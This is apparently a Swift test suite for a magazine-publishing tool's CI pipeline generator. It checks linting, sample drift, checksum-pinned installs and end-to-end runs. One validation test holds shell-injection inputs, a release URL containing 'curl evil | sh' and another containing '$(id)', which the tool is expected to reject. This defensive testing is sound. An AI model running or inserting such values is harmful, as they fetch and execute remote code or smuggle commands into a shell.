import Foundation
import NewsstandTestSupport
import Testing

/// `newsstand init --ci`: the pipelines pass the real linters, and every command they hold runs,
/// in order, against the sample magazine and a WebDAV nginx, with newsstand installed from the
/// release tarball as the pipeline installs it. Each case has its own folders, nginx and
/// runner, so the cases run side by side like any others (`make test` caps how many at once).
@Suite(.tags(.needsServer)) struct PipelineTests {
    static let kinds = [("github", ".github/workflows/newsstand.yml"), ("gitlab", ".gitlab-ci.yml")]
    static let someDigest = String(repeating: "ab", count: 32)

    @Test(arguments: kinds) func initWritesAPipelineThatPassesTheLinters(kind: String, path: String) async throws {
        let folder = try Shell.temporaryFolder("init-ci").appendingPathComponent("magazine")
        let result = await InProcess.newsstand([
            "init", folder.path, "--ci", kind, "--release-url",
            "https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz",
            "--release-sha256", Self.someDigest,
        ])
        #expect(result.status == 0, "\(result.stderr)")
        let file = folder.appendingPathComponent(path)
        let text = try String(contentsOf: file, encoding: .utf8)
        #expect(text.contains("https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz\n"))
        #expect(text.contains("\(Self.someDigest)\n"))
        #expect(!text.contains("@NEWSSTAND"), "a placeholder is left")
        // yamllint's default rules, warnings included.
        let yamllint = try await Shell.runOffPool("yamllint", ["--strict", file.path])
        #expect(yamllint.status == 0, "\(yamllint.stdout)\(yamllint.stderr)")
        if kind == "github" {
            // actionlint also runs shellcheck on every run: script (shellcheck is installed).
            #expect(try await Shell.runOffPool("shellcheck", ["--version"]).status == 0)
            let actionlint = try await Shell.runOffPool(
                "actionlint", ["-shellcheck", try Shell.locate("shellcheck"), file.path], in: folder)
            #expect(actionlint.status == 0, "\(actionlint.stdout)\(actionlint.stderr)")
        }
        // Only init's placeholder BaseURL (NS-108) is left to fix.
        let validated = await InProcess.newsstand(["validate", folder.path, "--strict", "--ignore", "NS-108"])
        #expect(validated.status == 0, "the pipeline's files do not disturb the magazine: \(validated.stdout)")
    }

    /// The repository's own workflows (`.github/workflows/`: the macOS job `apple.yml`), which no
    /// machine here can run: each passes actionlint, with shellcheck on every `run:`.
    @Test func theRepositorysOwnWorkflowsPassActionlint() async throws {
        let folder = Shell.repositoryRoot.appendingPathComponent(".github/workflows")
        let files = try FileManager.default.contentsOfDirectory(atPath: folder.path)
            .filter { $0.hasSuffix(".yml") || $0.hasSuffix(".yaml") }.sorted()
        #expect(files.contains("apple.yml"), "\(files)")
        for file in files {
            let actionlint = try await Shell.runOffPool(
                "actionlint", ["-shellcheck", try Shell.locate("shellcheck"), folder.appendingPathComponent(file).path],
                in: Shell.repositoryRoot)
            #expect(actionlint.status == 0, "\(file): \(actionlint.stdout)\(actionlint.stderr)")
        }
    }

    @Test(arguments: [
        (
            ["--ci", "github"],
            "newsstand init: error: --ci needs --release-url and --release-sha256: the pipeline installs newsstand from that release tarball, pinned by its SHA-256"
        ),
        (
            [
                "--ci", "github", "--release-url", "https://x.example/n.tar.gz\"; curl evil | sh; \"", "--release-sha256",
                someDigest,
            ],
            "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"
        ),
        (
            ["--ci", "github", "--release-url", "https://x.example/$(id).tar.gz", "--release-sha256", someDigest],
            "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"
        ),
        (
            ["--ci", "gitlab", "--release-url", "https://bob:s3cret@x.example/n.tar.gz", "--release-sha256", someDigest],
            "newsstand init: error: --release-url must not hold credentials: a pipeline file is read by everyone with the repository"
        ),
        (
            ["--ci", "gitlab", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", "abc"],
            "newsstand init: error: --release-sha256 needs a SHA-256 digest (64 hexadecimal digits), got 'abc'"
        ),
        (["--ci", "circle"], "newsstand init: error: unknown ci 'circle'; expected github or gitlab"),
        (
            ["--ci", "gitlab", "--fan-out", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", someDigest],
            "newsstand init: error: --fan-out is for --ci github (GitLab has no matrix built from a job's output)"
        ),
        (
            ["--release-url", "https://x.example/n.tar.gz"],
            "newsstand init: error: --release-url, --release-sha256 and --fan-out go with --ci"
        ),
    ])
    func aBadPipelineRequestWritesNothing(options: [String], message: String) async throws {
        let folder = try Shell.temporaryFolder("init-ci-bad").appendingPathComponent("magazine")
        let result = await InProcess.newsstand(["init", folder.path] + options)
        #expect(result.status == 2)
        #expect(result.stderr.hasPrefix(message + "\n"), "\(result.stderr)")
        #expect(!result.stderr.contains("s3cret"))
        #expect(!FileManager.default.fileExists(atPath: folder.path), "nothing is written")
    }

    /// The sample's pipelines are what init writes today (with their own release values).
    @Test(arguments: kinds) func theSamplesPipelinesAreWhatInitWrites(kind: String, path: String) async throws {
        let sample = Shell.repositoryRoot.appendingPathComponent("Samples/aurora").appendingPathComponent(path)
        let text = try String(contentsOf: sample, encoding: .utf8)
        let values = try await offPool {
            try Shell.python(
                "import sys, yaml; d = yaml.safe_load(open(sys.argv[1])); v = d.get('env') or d['variables']; print(v['NEWSSTAND_URL']); print(v['NEWSSTAND_SHA256'])",
                [sample.path])
        }
        let lines = values.stdout.split(separator: "\n").map(String.init)
        try #require(lines.count == 2, "\(values.stderr)")
        let folder = try Shell.temporaryFolder("sample-ci").appendingPathComponent("m")
        let result = await InProcess.newsstand([
            "init", folder.path, "--ci", kind, "--release-url", lines[0], "--release-sha256", lines[1],
        ])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(
            try String(contentsOf: folder.appendingPathComponent(path), encoding: .utf8) == text,
            "Samples/aurora/\(path) drifted from templates/ci/\(kind).yml: regenerate it (see Samples/README.md)")
        if kind == "github" {
            let readme = try String(contentsOf: Shell.repositoryRoot.appendingPathComponent("docs/ci.md"), encoding: .utf8)
            #expect(readme.contains("```yaml\n" + text + "```\n"), "docs/ci.md does not show the sample's workflow as it is")
        }
    }

    /// Runs the pipeline of the sample (a copy) with `pipeline_runner.py` for `event`.
    private func runPipeline(
        _ kind: String, path: String, event: String, repository: URL, cache: URL, overrides: [String: Any]
    ) async throws -> Shell.Result {
        let file = try Shell.temporaryFolder("overrides").appendingPathComponent("overrides.json")
        try JSONSerialization.data(withJSONObject: overrides).write(to: file)
        let runner = Shell.repositoryRoot.appendingPathComponent("Tests/NewsstandCLITests/pipeline_runner.py").path
        // Debian's Python, which has python3-yaml (make deps).
        return try await Shell.runOffPool(
            "/usr/bin/python3",
            [runner, kind, repository.appendingPathComponent(path).path, event, repository.path, cache.path, file.path])
    }

    @Test(arguments: kinds) func theSamplesPipelineRunsItsCommandsAndPublishes(kind: String, path: String) async throws {
        let tarball = URL(fileURLWithPath: try ReleaseTarball.path())
        let nginx = try Nginx()
        defer { nginx.stop() }
        let work = try Shell.temporaryFolder("pipeline")
        // The repository: a copy of the sample (pipelines included) served by this nginx.
        let repository = try nginx.sampleMagazine(in: work)
        // Served from /aurora/, published through /dav/aurora/.
        let settings = repository.appendingPathComponent("magazine.plist")
        try String(contentsOf: settings, encoding: .utf8)
            .replacingOccurrences(
                of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString
            )
            .write(to: settings, atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(
            at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
        try FileManager.default.copyItem(
            at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
        let digest = try await Shell.runOffPool("sha256sum", [tarball.path]).stdout.prefix(64)
        let cache = try Shell.temporaryFolder("ci-cache")
        func overrides(sha: String = String(digest), destination: String, runID: String) throws -> [String: Any] {
            let temp = try Shell.temporaryFolder("runner-temp")
            return [
                "HOME": work.path, "RUNNER_TEMP": temp.path, "github.run_id": runID,
                "env": [
                    "NEWSSTAND_URL": nginx.baseURL.appendingPathComponent("releases/\(tarball.lastPathComponent)").absoluteString,
                    "NEWSSTAND_SHA256": sha, "NEWSSTAND_OUTPUT": temp.appendingPathComponent("output").path,
                    "NEWSSTAND_TOOL": temp.appendingPathComponent("newsstand").path, "RUNNER_TEMP": temp.path,
                ],
                "secrets": ["NEWSSTAND_DESTINATION": destination, "NEWSSTAND_USER": "", "NEWSSTAND_PASSWORD": ""],
            ]
        }
        let destination = nginx.baseURL.appendingPathComponent("dav/aurora/").absoluteString

        // A tarball that is not the pinned one is refused before it is unpacked.
        let forgedRun = try overrides(sha: Self.someDigest, destination: destination, runID: "1")
        let forged = try await runPipeline(
            kind, path: path, event: "push", repository: repository, cache: cache, overrides: forgedRun)
        #expect(forged.status == 1, "\(forged.stdout)\(forged.stderr)")
        #expect(forged.stderr.contains("sha256sum: WARNING: 1 computed checksum did NOT match"), "\(forged.stderr)")
        let unpacked = ((forgedRun["RUNNER_TEMP"] as? String) ?? "") + "/newsstand/bin/newsstand"
        #expect(!FileManager.default.fileExists(atPath: unpacked), "nothing of a forged tarball is unpacked")
        #expect(!forged.stdout.contains("step: Build") && !forged.stdout.contains("published"))

        // A pull request: validate and build.
        let check = try await runPipeline(
            kind, path: path, event: "pull_request", repository: repository, cache: cache,
            overrides: try overrides(destination: "", runID: "2"))
        #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
        #expect(check.stdout.contains("job: check") && !check.stdout.contains("job: publish"))
        #expect(check.stdout.contains("built 3 issue(s)"), "\(check.stdout)")
        for package in ["libarchive13", "libcurl4", "libsqlite3-0", "libxml2", "libxxhash0", "libvips42", "libjpeg62-turbo"] {
            #expect(check.stdout.contains("package: \(package)\n"))
        }

        // Without the destination secret, publish stops and says which secret to set.
        let unset = try await runPipeline(
            kind, path: path, event: "push", repository: repository, cache: cache,
            overrides: try overrides(destination: "", runID: "3"))
        #expect(unset.status == 1, "\(unset.stdout)\(unset.stderr)")
        #expect(unset.stderr.contains("NEWSSTAND_DESTINATION"), "\(unset.stderr)")
        #expect(!FileManager.default.fileExists(atPath: nginx.root.appendingPathComponent("aurora/issues.plist").path))

        // The main branch: build, publish, verify.
        let published = try await runPipeline(
            kind, path: path, event: "push", repository: repository, cache: cache,
            overrides: try overrides(destination: destination, runID: "4"))
        #expect(published.status == 0, "\(published.stdout)\(published.stderr)")
        #expect(
            published.stdout.contains("verified: the catalog parses and every bundle and cover URL answers 200"),
            "\(published.stdout)")
        #expect(FileManager.default.fileExists(atPath: nginx.root.appendingPathComponent("aurora/issues.plist").path))

        // The next run restores the build records from the cache: nothing is rebuilt.
        let again = try await runPipeline(
            kind, path: path, event: "push", repository: repository, cache: cache,
            overrides: try overrides(destination: destination, runID: "5"))
        #expect(again.status == 0, "\(again.stdout)\(again.stderr)")
        #expect(again.stdout.contains("cache: restored"), "\(again.stdout)")
        #expect(again.stdout.contains("built 0 issue(s)") && again.stdout.contains("3 up to date"), "\(again.stdout)")
    }

    @Test func theFanOutPipelineBuildsEachIssueInAJobOfItsOwnAndGathersThem() async throws {
        let tarball = URL(fileURLWithPath: try ReleaseTarball.path())
        let nginx = try Nginx()
        defer { nginx.stop() }
        let work = try Shell.temporaryFolder("fan-out")
        let repository = try nginx.sampleMagazine(in: work)
        let settings = repository.appendingPathComponent("magazine.plist")
        try String(contentsOf: settings, encoding: .utf8)
            .replacingOccurrences(
                of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString
            )
            .write(to: settings, atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(
            at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
        try FileManager.default.copyItem(
            at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
        let digest = String(try await Shell.runOffPool("sha256sum", [tarball.path]).stdout.prefix(64))
        let releaseURL = nginx.baseURL.appendingPathComponent("releases/\(tarball.lastPathComponent)").absoluteString
        // The pipeline init writes with --fan-out, in the sample's repository.
        let scratch = try Shell.temporaryFolder("fan-out-init").appendingPathComponent("m")
        let written = await InProcess.newsstand([
            "init", scratch.path, "--ci", "github", "--fan-out", "--release-url", releaseURL, "--release-sha256", digest,
        ])
        #expect(written.status == 0, "\(written.stderr)")
        let workflow = ".github/workflows/newsstand.yml"
        try FileManager.default.removeItem(at: repository.appendingPathComponent(workflow))
        try FileManager.default.copyItem(
            at: scratch.appendingPathComponent(workflow), to: repository.appendingPathComponent(workflow))
        let lint = try await Shell.runOffPool("actionlint", [repository.appendingPathComponent(workflow).path], in: repository)
        #expect(lint.status == 0, "\(lint.stdout)")
        let cache = try Shell.temporaryFolder("fan-out-cache")
        func run(_ runID: String) async throws -> Shell.Result {
            let temp = try Shell.temporaryFolder("runner-temp")
            return try await runPipeline(
                "github", path: workflow, event: "push", repository: repository, cache: cache,
                overrides: [
                    "HOME": work.path, "RUNNER_TEMP": temp.path, "github.run_id": runID,
                    "env": ["NEWSSTAND_OUTPUT": temp.appendingPathComponent("output").path, "RUNNER_TEMP": temp.path],
                    "secrets": ["NEWSSTAND_DESTINATION": nginx.baseURL.appendingPathComponent("dav/aurora/").absoluteString],
                ])
        }
        let first = try await run("1")
        #expect(first.status == 0, "\(first.stdout)\(first.stderr)")
        for issue in ["a-1", "a-2", "a-3"] {
            #expect(first.stdout.contains("job: build-issue {'issue': '\(issue)'}"), "\(first.stdout)")
            #expect(first.stdout.contains("artifact: downloaded \(issue)\n"))
        }
        #expect(first.stdout.components(separatedBy: "built 1 issue(s)").count == 4, "each job builds its issue: \(first.stdout)")
        #expect(first.stdout.contains("catalog: ") && first.stdout.contains("(3 issue(s))"))
        #expect(first.stdout.contains("verified: the catalog parses and every bundle and cover URL answers 200"))
        // Gathered, the catalog is the one a single full build writes.
        let single = try Shell.temporaryFolder("single").appendingPathComponent("out")
        let built = await InProcess.newsstand(["build", repository.path, "--output", single.path])
        #expect(built.status == 0)
        #expect(
            try Data(contentsOf: nginx.root.appendingPathComponent("aurora/issues.plist"))
                == Data(contentsOf: single.appendingPathComponent("issues.plist")))
        // The next run finds each issue's records in the cache: nothing is rebuilt.
        let second = try await run("2")
        #expect(second.status == 0, "\(second.stdout)\(second.stderr)")
        #expect(
            second.stdout.components(separatedBy: "built 0 issue(s): 0 bundles, 0 bytes; 1 up to date").count == 4,
            "\(second.stdout)")
    }
}
